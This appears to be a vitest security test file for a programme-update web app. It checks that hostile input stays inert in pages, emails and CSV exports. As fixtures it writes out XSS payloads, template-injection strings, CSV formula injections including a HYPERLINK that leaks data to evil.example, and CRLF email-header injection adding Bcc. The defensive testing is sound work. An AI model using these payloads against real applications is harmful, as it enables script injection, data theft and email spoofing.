/**
 * 6. Escaping: hostile text (script tags, attribute breakouts, template syntax, spreadsheet
 * formula prefixes, header-injection line breaks) posted as an update and carried in a
 * sponsor's and a person's name must stay inert text in every page, in the emails and in
 * the CSV exports, and line breaks must never reach an email header.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newPerson } from '#shared/domain/people';
import { csrfTokenFor } from '#shared/domain/session';
import { invoke } from '../../infra/local/lambda.ts';
import { followPersonalLink } from '../integration/stack.ts';
import { section } from './lib/figures.ts';
import { cspNonce, decodeEntities, formulaCells, liveMarkup, parseCsv } from './lib/markup.ts';
import { eventually, priorityIds, type ResilienceStack, type SentEmail, startStack, validUpdate } from './lib/stack.ts';

const figures = section(6, 'Escaping');
const markup = [
  '<script>alert("rp")</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(2)</script>',
  '{{ 7*7 }}{% if true %}ssti{% endif %}',
];
const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
const headerInjection = 'Quarterly update\r\nBcc: victim@example.org\r\nSubject: spoofed';
// No address in it: a name holding one is never shown, so it would not reach a page or an email to be escaped.
const hostileName = `<script>alert("name")</script> =cmd|' /C calc'!A0 ${headerInjection.replace('victim@example.org', 'victim')}`;
const priorityId = priorityIds[4]!;

let stack: ResilienceStack;
let token: string;
let updateId: string;
let pageChecks = 0;
const live: string[] = [];
const missing: string[] = [];

beforeAll(async () => {
  stack = await startStack({ pollIntervalMs: 100 });
  token = await stack.token(priorityId, { name: hostileName });
  // A hostile update: markup in every text field, formulas first in cells, a line break in a list entry.
  const response = await stack.request('POST', `/priorities/${priorityId}/updates`, {
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify({
      ...validUpdate,
      status: 'red',
      summary: `${markup.join(' ')} hostile-summary`,
      statusRationale: formulas[0],
      achievements: [...formulas, ...markup],
      nextSteps: [headerInjection, ...markup],
      barriers: [
        { description: formulas[1], needsBoardSupport: true },
        { description: markup[1], needsBoardSupport: true },
        { description: formulas[2], needsBoardSupport: false },
      ],
    }),
  });
  if (response.status !== 201) throw new Error(`the hostile update was refused: ${response.status} ${await response.text()}`);
  updateId = ((await response.json()) as { id: string }).id;
  await eventually('the hostile update to be summarised', async () => (await stack.getItem('PROGRAMME', `SUMMARY#${priorityId}`))?.lastUpdateId === updateId);
});
afterAll(async () => stack?.stop());

/** Checks one page: no live markup, and the hostile text shown as text. */
function checkPage(name: string, html: string, csp: string | undefined, shown: readonly string[]) {
  pageChecks += 1;
  for (const snippet of liveMarkup(html, cspNonce(csp))) live.push(`${name}: ${snippet.slice(0, 120)}`);
  const text = decodeEntities(html);
  for (const value of shown) if (!text.includes(value)) missing.push(`${name}: ${value.slice(0, 60)}`);
}

async function page(path: string, headers: Record<string, string> = {}) {
  const response = await stack.request('GET', path, { headers: { accept: 'text/html', ...headers } });
  return {
    status: response.status,
    html: await response.text(),
    csp: response.headers.get('content-security-policy') ?? undefined,
    type: response.headers.get('content-type') ?? '',
  };
}

describe('hostile text stays inert', () => {
  it('(the checker itself sees live markup, and passes escaped text)', () => {
    expect(liveMarkup('<p><img src=x onerror=alert(1)></p>')).toHaveLength(1);
    expect(liveMarkup('<a href=" javascript:alert(1)">x</a><script>alert(1)</script>')).toHaveLength(2);
    expect(liveMarkup('<script nonce="n1">ok()</script>', 'n1')).toEqual([]);
    expect(
      liveMarkup('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><input value="&quot;><img src=x onerror=alert(1)>"><textarea><script>x</script></textarea>'),
    ).toEqual([]);
    expect(formulaCells(parseCsv('\uFEFF"a","=1+1"\r\n"\'=2","-3"\r\n'))).toEqual(['=1+1', '-3']);
  });

  it('in pages: the update’s confirmation, the priority, the dashboard, the update form (also re-shown with errors), the barriers page with a board response, an error page and the preferences page', async () => {
    // Prepare: a browser session from the personal link, and a person with a hostile name.
    const cookie = await followPersonalLink(stack, `/priorities/${priorityId}/updates/new?token=${encodeURIComponent(token)}`);
    const sessionId = cookie.slice(cookie.indexOf('=') + 1);
    const person = newPerson({
      name: '<script>alert("person")</script> "><img src=x onerror=alert(1)>',
      email: 'hostile.person@example.org',
      role: 'sponsor',
      priorityId,
    });
    await stack.stores.people.save(person);
    // A board member with a hostile name responds to the hostile barrier with hostile text.
    const boardToken = await stack.boardToken({ name: hostileName });
    const barrierId = `${updateId}-1`;
    await eventually('the hostile barrier in the log', async () =>
      (await stack.stores.barriers.list(priorityId)).some((barrier) => barrier.barrierId === barrierId),
    );
    const responded = await stack.request('POST', `/priorities/${priorityId}/barriers/${barrierId}/responses`, {
      headers: { 'content-type': 'application/json', authorization: `Bearer ${boardToken}` },
      body: JSON.stringify({ decision: `${markup.join(' ')} ${formulas[3]}`, owner: markup[4], dueDate: '2021-04-30' }),
    });
    const boardCookie = await followPersonalLink(stack, `/barriers?token=${encodeURIComponent(boardToken)}`);

    // Act
    const confirmation = await page(`/priorities/${priorityId}/updates/${updateId}`);
    const priority = await page(`/priorities/${priorityId}`);
    const dashboard = await page('/');
    const form = await page(`/priorities/${priorityId}/updates/new`, { cookie });
    const reshown = await stack.request('POST', `/priorities/${priorityId}/updates`, {
      headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html', cookie },
      body: new URLSearchParams({
        csrfToken: csrfTokenFor(sessionId),
        status: 'red',
        summary: markup.join(' '),
        statusRationale: markup[3]!,
        achievements: markup.join('\n'),
      }).toString(),
    });
    const reshownHtml = await reshown.text();
    const notFound = await page(`/priorities/${encodeURIComponent(markup[0]!)}`);
    const preferences = await page(`/people/${person.personId}/preferences?key=${encodeURIComponent(person.preferencesKey)}`);
    const barriers = await page('/barriers', { cookie: boardCookie });

    // Assess
    checkPage('confirmation page', confirmation.html, confirmation.csp, [...markup, formulas[0]!]);
    checkPage('priority page', priority.html, priority.csp, [`${markup.join(' ')} hostile-summary`]);
    checkPage('dashboard', dashboard.html, dashboard.csp, [markup[1]!]);
    checkPage('update form', form.html, form.csp, ['<script>alert("name")</script>']);
    checkPage('update form re-shown with errors', reshownHtml, reshown.headers.get('content-security-policy') ?? undefined, [markup.join(' '), markup[3]!]);
    checkPage('404 page for a hostile priority id', notFound.html, notFound.csp, []);
    checkPage('preferences page', preferences.html, preferences.csp, ['<script>alert("person")</script>']);
    checkPage('barriers page with a board member’s session', barriers.html, barriers.csp, [
      markup[1]!,
      markup.join(' '),
      markup[4]!,
      '<script>alert("name")</script>',
    ]);
    const answered = await page(`/priorities/${priorityId}`);
    checkPage('priority page with the board response', answered.html, answered.csp, [markup.join(' ')]);
    figures.record('pages checked', pageChecks, { info: true });
    const liveCount = figures.record('live markup in pages (scripts without the nonce, handlers, javascript: URLs)', live.length, { equals: 0 });
    figures.record(
      'template syntax evaluated ({{ 7*7 }} shown as 49)',
      [confirmation.html, priority.html, reshownHtml].filter((html) => /\b49\b|>ssti</.test(decodeEntities(html).replace(/\d{4}-\d\d-\d\dT[^ <]*/g, '')))
        .length,
      { equals: 0 },
    );
    expect([
      responded.status,
      confirmation.status,
      priority.status,
      dashboard.status,
      form.status,
      reshown.status,
      notFound.status,
      preferences.status,
      barriers.status,
    ]).toEqual([201, 200, 200, 200, 200, 422, 404, 200, 200]);
    expect(barriers.html).toContain('<form method="post"');
    expect({ liveCount, live }).toEqual({ liveCount: 0, live: [] });
    expect(missing).toEqual([]);
  });

  it('refuses line breaks and control characters in a person’s name and address (they reach email headers)', () => {
    // Act
    const attempts = [
      { name: 'Name\r\nBcc: victim@example.org', email: 'ok@example.org' },
      { name: 'Fine name', email: 'a@example.org\r\nBcc: victim@example.org' },
      { name: 'Fine name', email: 'a@example.org\nBcc: victim@example.org' },
      { name: 'Nul\u0000name', email: 'ok@example.org' },
    ];
    const accepted = attempts.filter((attempt) => {
      try {
        newPerson({ ...attempt, role: 'board' });
        return true;
      } catch {
        return false;
      }
    });

    // Assess
    figures.record('people with line breaks in name or address accepted', accepted.length, { equals: 0 });
    expect(accepted).toEqual([]);
  });

  it('in emails: the notification, the board response and the digests escape the text, subjects and headers stay single-line, and recipients are only the intended ones', async () => {
    // Prepare: the hostile update is red with barriers for the board, so sponsor, lead and board hear of it.
    const expected = [
      `sponsor.${priorityId}@example.org`,
      `lead.${priorityId}@example.org`,
      'board.chair@example.org',
      'board.secretariat@example.org',
      'hostile.person@example.org',
    ];
    const notifications = await eventually('the hostile update’s notifications', async () => {
      const sent = (await stack.emails()).filter((email) => (email.body.text ?? '').includes('hostile-summary'));
      return sent.length >= expected.length - 1 ? sent : undefined;
    });

    const responses = await eventually('the board response’s emails', async () => {
      const sent = (await stack.emails()).filter((email) => email.subject.includes('the board has responded'));
      return sent.length >= 2 ? sent : undefined;
    });

    // Act: the weekly digest and reminders as well.
    await invoke('digest', { runId: 'escaping-check' });
    const all = await stack.emails();

    // Assess
    const problems: string[] = [];
    for (const email of all as SentEmail[]) {
      for (const snippet of liveMarkup(email.body.html ?? '')) problems.push(`live markup in “${email.subject}”: ${snippet.slice(0, 100)}`);
      if (/[\r\n]/.test(email.subject)) problems.push(`multi-line subject: ${JSON.stringify(email.subject)}`);
      for (const header of email.headers ?? []) if (/[\r\n]/.test(header.value)) problems.push(`line break in header ${header.name}`);
      if ((email.destination.cc ?? []).length + (email.destination.bcc ?? []).length > 0) problems.push(`cc/bcc on “${email.subject}”`);
      for (const to of email.destination.to) if (!/^[a-z0-9.+-]+@example\.org$/.test(to)) problems.push(`unexpected recipient ${JSON.stringify(to)}`);
    }
    const notificationHtml = notifications.map((email) => decodeEntities(email.body.html ?? ''));
    const shown = notificationHtml.filter((html) => html.includes(markup[0]!) && html.includes('<script>alert("name")</script>')).length;
    figures.record('emails checked (notifications and digests)', all.length, { info: true });
    const emailProblems = figures.record('emails with live markup, multi-line subjects or headers, or extra recipients', problems.length, { equals: 0 });
    expect(emailProblems).toBe(0);
    expect(problems).toEqual([]);
    expect(shown).toBe(notifications.length);
    expect(responses.filter((email) => decodeEntities(email.body.html ?? '').includes(markup[0]!)).length).toBe(responses.length);
    const recipients = notifications.flatMap((email) => email.destination.to);
    expect(recipients).toEqual(expect.arrayContaining(expected.slice(0, 4)));
    expect(recipients.filter((to) => !expected.includes(to))).toEqual([]);
  });

  it('in CSV exports: no cell a spreadsheet would read as a formula', async () => {
    // Act
    const history = await stack.request('GET', `/priorities/${priorityId}/updates.csv`);
    const portfolio = await stack.request('GET', '/portfolio.csv');
    const historyRows = parseCsv(await history.text());
    const portfolioRows = parseCsv(await portfolio.text());

    // Assess
    const formulaLike = [...formulaCells(historyRows), ...formulaCells(portfolioRows)];
    const neutralised = historyRows.flat().filter((cell) => formulas.some((formula) => cell.includes(formula))).length;
    figures.record('CSV exports checked', '2 (update history, portfolio)', { info: true });
    figures.record('CSV cells starting with = + - @ tab or CR', formulaLike.length, { equals: 0 });
    expect([history.status, portfolio.status]).toEqual([200, 200]);
    expect(history.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(neutralised).toBeGreaterThan(0);
    expect(formulaLike).toEqual([]);
  });
});
